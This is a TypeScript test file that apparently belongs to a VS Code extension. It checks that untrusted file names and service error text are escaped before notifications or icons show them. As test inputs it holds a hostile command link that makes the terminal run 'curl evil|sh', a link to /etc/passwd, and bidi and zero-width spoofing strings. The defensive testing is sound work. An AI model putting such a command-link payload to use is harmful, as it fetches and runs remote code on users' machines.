// Someone else's words in VS Code's own surfaces: a notification turns `[label](command:…)`
// into a link that runs the command when clicked, so a file name or an error text from the
// service must reach a notification as text.
import { strict as assert } from 'node:assert';
import { errorFromResponse } from '../../src/api/httpErrors';
import { messageWithFix } from '../../src/common/core/errorFixes';
import { jsonText, shown, shownInMessage, shownWithIcons } from '../../src/common/core/untrustedText';

/** VS Code's parseLinkedText pattern (src/vs/base/common/linkedText.ts): what a notification makes a link. */
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

const HOSTILE_LINK = '[Retry](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cr%22%7D)';

describe('common: untrusted text in notifications', () => {
  it('leaves no link a notification would open, and escapes control and bidi characters', () => {
    for (const text of [HOSTILE_LINK, '[docs](https://evil.example)', '[x](FILE:///etc/passwd)', '[a](Command:x)']) {
      const shownText = shownInMessage(text);
      assert.equal(shownText.match(NOTIFICATION_LINK), null, shownText);
      assert.ok(shownText.includes('] ('), 'the words stay readable');
    }
    assert.equal(shownInMessage('invoice\u202Egpj.exe\n[1](notalink)'), 'invoice\\u202egpj.exe\\n[1](notalink)');
    assert.equal(shownInMessage(shownInMessage(HOSTILE_LINK)), shownInMessage(HOSTILE_LINK), 'idempotent');
  });

  it("shows the service's error text as text: no command link, no bidi control", () => {
    const error = errorFromResponse({ status: 500, headers: {}, bodyText: JSON.stringify({ message: `${HOSTILE_LINK} \u202Eoops` }), what: 'Listing files', redact: (t) => t });
    const line = messageWithFix(error);
    assert.equal(line.match(NOTIFICATION_LINK), null, line);
    assert.ok(!line.includes('\u202E'), line);
    assert.match(line, /Listing files failed/);
  });
});

describe('common: untrusted text where VS Code draws icons', () => {
  it('keeps $(icon) syntax as text, escapes control and bidi characters, and bounds the text', () => {
    assert.equal(shownWithIcons('$(check) Apply'), '\\$(check) Apply');
    assert.equal(shownWithIcons('a\u202Eb\n'), 'a\\u202eb\\n');
    assert.equal(shownWithIcons('x'.repeat(100_000)).length, 200);
  });
});

describe('common: untrusted text that would look like another name', () => {
  // Unicode's Bidi_Control set is twelve characters; the three marks move neutral characters too.
  it('escapes every bidi control, the marks ALM, LRM and RLM included', () => {
    const controls = ['\u061c', '\u200e', '\u200f', '\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'];
    for (const c of controls) {
      const text = shown(`a${c}b`);
      assert.equal(text, `a\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}b`, JSON.stringify(c));
      assert.ok(!jsonText(`a${c}b`).includes(c), JSON.stringify(c));
    }
  });

  it('shows characters that draw nothing (a zero-width space makes another notes.md); ZWJ and ZWNJ (emoji, scripts) stay', () => {
    for (const c of ['\u00ad', '\u200b', '\u2060', '\u2061', '\u2062', '\u2063', '\u2064', '\ufeff']) {
      assert.notEqual(shownInMessage(`notes${c}.md`), 'notes.md', JSON.stringify(c));
      assert.ok(!shown(`notes${c}.md`).includes(c), JSON.stringify(c));
      assert.ok(!jsonText(`notes${c}.md`).includes(c), JSON.stringify(c));
      assert.equal(JSON.parse(jsonText(`notes${c}.md`)), `notes${c}.md`, 'the same value once parsed');
    }
    assert.equal(shown('\u{1F469}\u200d\u{1F4BB}.md'), '\u{1F469}\u200d\u{1F4BB}.md');
    assert.equal(shown('\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645.txt'), '\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645.txt');
  });
});
